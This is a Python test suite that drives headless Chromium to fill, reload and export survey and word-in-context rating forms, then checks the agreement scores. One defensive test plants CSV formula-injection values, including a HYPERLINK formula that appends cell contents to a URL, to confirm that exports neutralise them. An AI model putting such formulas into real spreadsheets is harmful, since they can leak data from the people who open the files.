"""The survey and study forms in a real browser (headless Chromium through Selenium): two scripted
raters fill every item (each finds an empty rater id box, the second none of the first's answers), a
reload halfway keeps their progress once the id is entered again, the exports run through the readers
and scorers of the workflow, and the agreement comes out as computed by hand.

Needs Debian's ``chromium`` and ``chromium-driver`` (``.ci/run`` installs them); skipped otherwise.
"""

from __future__ import annotations

import functools
import json
import re
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from scipy.stats import spearmanr
from sklearn.metrics import cohen_kappa_score

from biosem.agreement.forms import (
    SURVEY_EXPORT_COLUMNS,
    WIC_EXPORT_COLUMNS,
    read_survey_exports,
    study_form,
    survey_form,
)
from biosem.agreement.ratings import RatingParams, aggregate_ratings
from biosem.agreement.studies import read_filled_sheets, score_wic_study, wic_study
from biosem.simlex.schemas import QUARTERS
from biosem.simlex.survey import SurveyParams, design_survey, instructions

DRIVER = "/usr/bin/chromedriver"
webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is not installed (pip install -e '.[test]')")
from selenium.webdriver.chrome.service import Service  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support import expected_conditions  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

pytestmark = pytest.mark.skipif(
    not (Path(DRIVER).exists() and (shutil.which("chromium") or shutil.which("chromium-browser"))),
    reason="no browser: install Debian's chromium and chromium-driver (apt-get install chromium chromium-driver)",
)


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("downloads")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """A folder served on http://127.0.0.1: the forms are opened from there, not from file:// URLs.

    Chromium treats every file:// page as an opaque origin; after a quick reload such a page can
    read an older snapshot of localStorage (seen in CI), which is not what a rater's browser does on
    a web origin or after seconds on disk.
    """
    root = tmp_path_factory.mktemp("site")
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *args: None
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield root, f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def browser(downloads: Path) -> Iterator[object]:
    options = webdriver.ChromeOptions()
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1000,900"):
        options.add_argument(arg)
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    # A fixed driver path: Selenium Manager never looks for (or downloads) a driver.
    driver = webdriver.Chrome(service=Service(DRIVER), options=options)
    driver.implicitly_wait(0)
    yield driver
    driver.quit()


def start(driver, url: str, rater: str) -> None:
    """Open the form, check that the rater id box is empty (never the previous rater's id), enter ``rater``."""
    driver.get(url)
    WebDriverWait(driver, 10).until(lambda d: d.execute_script("return !!window.biosemForm"))
    enter_rater(driver, rater)
    begin(driver)


def enter_rater(driver, rater: str) -> None:
    box = driver.find_element(By.ID, "rater")
    assert box.get_attribute("value") == ""
    box.send_keys(rater)


def begin(driver) -> None:
    """Press Start once the start box is shown (callers have waited for the page's script); wait until
    the form is shown."""
    WebDriverWait(driver, 10).until(lambda d: d.find_element(By.ID, "begin").is_displayed())
    driver.find_element(By.ID, "begin").click()
    WebDriverWait(driver, 10).until(lambda d: d.find_element(By.ID, "form").is_displayed())


def reload(driver) -> None:
    """Reload the page and wait until the old document is gone and the new one's script has run.

    Without the staleness wait, the old page (script run, ``readyState`` complete) can satisfy the
    wait, and Start is then pressed on the new page before its script has attached the handler.
    """
    old = driver.find_element(By.TAG_NAME, "html")
    driver.refresh()
    WebDriverWait(driver, 10).until(expected_conditions.staleness_of(old))
    WebDriverWait(driver, 10).until(
        lambda d: d.execute_script("return document.readyState === 'complete' && !!window.biosemForm")
    )


def rows_on_page(driver) -> list:
    return driver.find_elements(By.CSS_SELECTOR, "#items .item")


def export(driver, downloads: Path, name: str) -> tuple[Path, str]:
    """Click export; return the downloaded file and the CSV the page built."""
    built = driver.execute_script("return biosemForm.csv()")
    driver.find_element(By.ID, "export").click()
    path = downloads / name
    size = len(built.encode("utf-8"))
    deadline = time.monotonic() + 15
    # Chromium may show the file before it has written all of it: wait for the full size too.
    while not (path.exists() and path.stat().st_size >= size) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert path.exists(), f"no download {name} in {sorted(p.name for p in downloads.iterdir())}"
    return path, built


# --------------------------------------------------------------------------------------------------
# Survey
# --------------------------------------------------------------------------------------------------
def survey_design() -> pd.DataFrame:
    n = 24
    pairs = pd.DataFrame(
        {
            "pair_id": [f"N{i:03d}" for i in range(n)],
            "word1": [f"alpha{i}" for i in range(n)],
            "word2": [f"beta{i}" for i in range(n)],
            "quarter": [QUARTERS[i % 4] for i in range(n)],
        }
    )
    params = SurveyParams(groups=1, consistency_pairs=4, unique_per_page=10, duplicates_per_page=2, dont_know=True)
    return design_survey(pairs, "nouns", params, np.random.default_rng(7))


def rating(rater: str, pair_id: str) -> int | None:
    """The scripted ratings: a function of the pair, so a duplicate gets the same rating; r2 says
    "don't know" for pair N005."""
    k = int(pair_id[1:])
    if rater == "r1":
        return k % 7
    return None if k == 5 else (k * 3 + 1) % 7


def rate_page(driver, rater: str, by_item: dict[str, str], limit: int | None = None) -> int:
    """Rate the items of the current page (the first ``limit``) with the keyboard; return how many."""
    done = 0
    for row in rows_on_page(driver)[:limit]:
        value = rating(rater, by_item[row.get_attribute("data-item")])
        if value is None:
            row.find_element(By.CSS_SELECTOR, ".dont-know").click()
        elif value == 3:  # the slider rests at the middle: confirm it without moving
            row.find_element(By.CSS_SELECTOR, ".confirm").click()
        else:
            row.find_element(By.CSS_SELECTOR, "input[type=range]").send_keys(Keys.HOME + Keys.RIGHT * value)
        done += 1
    return done


def test_survey_form_fill_reload_export_aggregate(browser, downloads: Path, site: tuple[Path, str]) -> None:
    items = survey_design()
    assert items.groupby("page").size().tolist() == [14, 14]
    root, url = site
    page = root / "group1.html"
    page.write_text(survey_form(items, 1, instructions("nouns", SurveyParams(dont_know=True), 14), dont_know=True))
    by_item = dict(zip(items["item_id"], items["pair_id"]))
    exports = []
    for rater in ("r1", "r2"):
        start(browser, url + page.name, rater)
        browser.find_element(By.ID, "export").click()
        assert "28 item(s) not answered" in browser.find_element(By.ID, "status").text
        assert not (downloads / f"nouns-group1-{rater}.csv").exists()
        shown = [r.get_attribute("data-item") for r in rows_on_page(browser)]
        assert shown == items.loc[items["page"] == 1, "item_id"].tolist()  # the designed order
        rate_page(browser, rater, by_item)
        browser.find_element(By.ID, "next").click()
        rate_page(browser, rater, by_item, limit=5)
        # Reload halfway: the id box is empty again; with the rater's id entered, the page and the 19
        # answers come back from localStorage.
        reload(browser)
        enter_rater(browser, rater)
        begin(browser)
        assert browser.execute_script("return biosemForm.page()") == 1
        assert len(browser.execute_script("return biosemForm.unanswered()")) == 28 - 19
        values = [e.text for e in browser.find_elements(By.CSS_SELECTOR, "#items .value")][:5]
        expected = [rating(rater, by_item[i]) for i in items.loc[items["page"] == 2, "item_id"].head(5)]
        assert values == ["don't know" if v is None else str(v) for v in expected]
        rows = rows_on_page(browser)[5:]
        for row in rows:
            value = rating(rater, by_item[row.get_attribute("data-item")])
            if value is None:
                row.find_element(By.CSS_SELECTOR, ".dont-know").click()
            elif value == 3:
                row.find_element(By.CSS_SELECTOR, ".confirm").click()
            else:
                row.find_element(By.CSS_SELECTOR, "input[type=range]").send_keys(Keys.HOME + Keys.RIGHT * value)
        path, built = export(browser, downloads, f"nouns-group1-{rater}.csv")
        assert path.read_text(encoding="utf-8") == built
        exports.append(path)

    frame = pd.read_csv(exports[1], dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == SURVEY_EXPORT_COLUMNS
    assert frame["item_id"].tolist() == items["item_id"].tolist()
    assert (frame["time_ms"].astype(int) >= 0).all()
    assert frame.loc[frame["dont_know"] == "1", "pair_id"].unique().tolist() == ["N005"]
    assert (frame.loc[frame["dont_know"] == "1", "rating"] == "").all()

    matrix = read_survey_exports(exports, items)
    params = RatingParams(min_shared=2, min_items=1, bias_threshold=None, exclusion_sd=None)
    result = aggregate_ratings(matrix, params)
    # By hand: one rating per pair and rater (duplicates repeat it), r2 has no rating for N005.
    pairs = sorted(set(items["pair_id"]))
    r1 = np.array([rating("r1", p) for p in pairs], dtype=float)
    r2 = np.array([np.nan if rating("r2", p) is None else rating("r2", p) for p in pairs], dtype=float)
    both = ~np.isnan(r2)
    rho = spearmanr(r1[both], r2[both]).statistic
    iaa1 = result.agreement.query("stage == 'raw' and group == 'all' and metric == 'IAA-1'")["value"]
    assert iaa1.tolist() == pytest.approx([rho])
    unique = items.loc[items["role"] == "unique", ["word1", "word2", "pair_id"]]
    assert len(result.dataset) == len(unique)
    merged = result.dataset.merge(unique, on=["word1", "word2"])
    hand = {p: np.nanmean([rating("r1", p), np.nan if rating("r2", p) is None else rating("r2", p)]) for p in pairs}
    assert merged["mean_raw"].tolist() == pytest.approx([hand[p] for p in merged["pair_id"]])
    assert result.counts["repeated_ratings"] == 2 * 2 * int((items["role"] == "duplicate").sum())


# --------------------------------------------------------------------------------------------------
# WiC study
# --------------------------------------------------------------------------------------------------
def wic_split(n: int = 12) -> pd.DataFrame:
    rows = []
    for i in range(n):
        s1, s2 = f"Patients with cold{i} were seen.", f"The cold{i} room was closed."
        rows.append(
            {
                "term1": f"cold{i}",
                "term2": f"cold{i}",
                "sentence1": s1,
                "sentence2": s2,
                "start1": 14,
                "end1": 14 + len(f"cold{i}"),
                "start2": 4,
                "end2": 4 + len(f"cold{i}"),
                "cat": "abbr" if i % 2 else "syn",
                "label": i % 2,
            }
        )
    return pd.DataFrame(rows)


ANSWER = {"a": ("same", "not same", "same", "don't know"), "b": ("same", "not same", "not same", "same")}


def wic_answer(rater: str, item: str) -> str:
    return ANSWER[rater][int(item[1:]) % 4]


def test_wic_form_fill_reload_export_score(browser, downloads: Path, site: tuple[Path, str]) -> None:
    sheets, key, counts = wic_study(wic_split(), per_rater=8, shared=4, rng=np.random.default_rng(3))
    assert counts["items"] == 12
    root, url = site
    files = {}
    for rater in ("a", "b"):
        sheet = sheets[rater]
        page = root / f"sheet_{rater}.html"
        html = study_form(sheet, "wic", f"sheet_{rater}", page_size=5)
        data = json.loads(re.search(r'id="form-data">(.*?)</script>', html, re.S).group(1))
        assert {k for it in data["items"] for k in it["fields"]} == set(sheet.columns) - {"answer"}  # blinded
        assert '"syn"' not in html and '"abbr"' not in html and "in_sheet" not in html
        page.write_text(html)
        start(browser, url + page.name, f"expert_{rater}")
        first = rows_on_page(browser)[0]
        marks = [m.text for m in first.find_elements(By.TAG_NAME, "mark")]
        assert marks == [sheet["term1"].iat[0], sheet["term2"].iat[0]]  # the mentions, highlighted
        answered = 0
        for page_no in range(2):
            for row in rows_on_page(browser):
                item = row.get_attribute("data-item")
                row.find_element(By.CSS_SELECTOR, f'input[value="{wic_answer(rater, item)}"]').click()
                answered += 1
                if page_no == 1 and answered == 6:
                    reload(browser)
                    enter_rater(browser, f"expert_{rater}")
                    begin(browser)
                    assert len(browser.execute_script("return biosemForm.unanswered()")) == 8 - 6
                    break
            if page_no == 0:
                browser.find_element(By.ID, "next").click()
        for row in rows_on_page(browser)[1:]:
            item = row.get_attribute("data-item")
            row.find_element(By.CSS_SELECTOR, f'input[value="{wic_answer(rater, item)}"]').click()
        path, built = export(browser, downloads, f"wic-sheet_{rater}-expert_{rater}.csv")
        assert path.read_text(encoding="utf-8") == built
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert tuple(frame.columns) == WIC_EXPORT_COLUMNS
        assert frame[list(sheet.columns[:-1])].equals(sheet[list(sheet.columns[:-1])].astype(str))
        files[rater] = path

    ids = {name: set(key.loc[key[f"in_sheet_{name}"], "item"]) for name in ("a", "b")}
    answers, which = read_filled_sheets(files, key, ids, ["term1", "term2"])
    assert which == {"a": "a", "b": "b"}
    scores = score_wic_study(answers, key).set_index(["measure", "rater1"])
    shared = sorted(ids["a"] & ids["b"])
    kappa = cohen_kappa_score([wic_answer("a", i) for i in shared], [wic_answer("b", i) for i in shared])
    assert scores.loc[("cohen_kappa", "a"), "value"] == pytest.approx(kappa)
    gold = dict(zip(key["item"], key["label"]))
    for rater in ("a", "b"):
        mine = sorted(ids[rater])
        right = sum(wic_answer(rater, i) == ("same" if gold[i] == 1 else "not same") for i in mine)
        assert scores.loc[("accuracy", rater), "value"] == pytest.approx(right / len(mine))


def test_study_form_export_neutralises_formulas(browser, site) -> None:
    """Terms that a spreadsheet would run as formulas are exported with the leading apostrophe (the sheets'
    neutralisation), and the sheet reader gives them back as written."""
    from biosem.agreement.sheets import FORMULA_TRIGGERS, read_sheet

    terms = ['=HYPERLINK("http://example.org/?"&A1,"click")', "+1", "-ase", "@SUM(A1)", "\tx", "\rx", "'=q", "plain"]
    sheet = pd.DataFrame(
        {"item": [f"P{i:03d}" for i in range(len(terms))], "term1": terms, "term2": terms[::-1], "answer": ""}
    )
    root, url = site
    page = root / "planted.html"
    page.write_text(study_form(sheet, "termpairs", "planted"))
    start(browser, url + page.name, "planted")
    for row in rows_on_page(browser):
        row.find_element(By.CSS_SELECTOR, 'input[value="same"]').click()
    built = browser.execute_script("return biosemForm.csv()")
    path = root / "planted.csv"
    path.write_text(built, encoding="utf-8")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not raw[["term1", "term2"]].map(lambda v: v[:1] in FORMULA_TRIGGERS).any().any()
    back = read_sheet(path)
    assert back["term1"].tolist() == terms and back["term2"].tolist() == terms[::-1]
    assert set(back["answer"]) == {"same"}
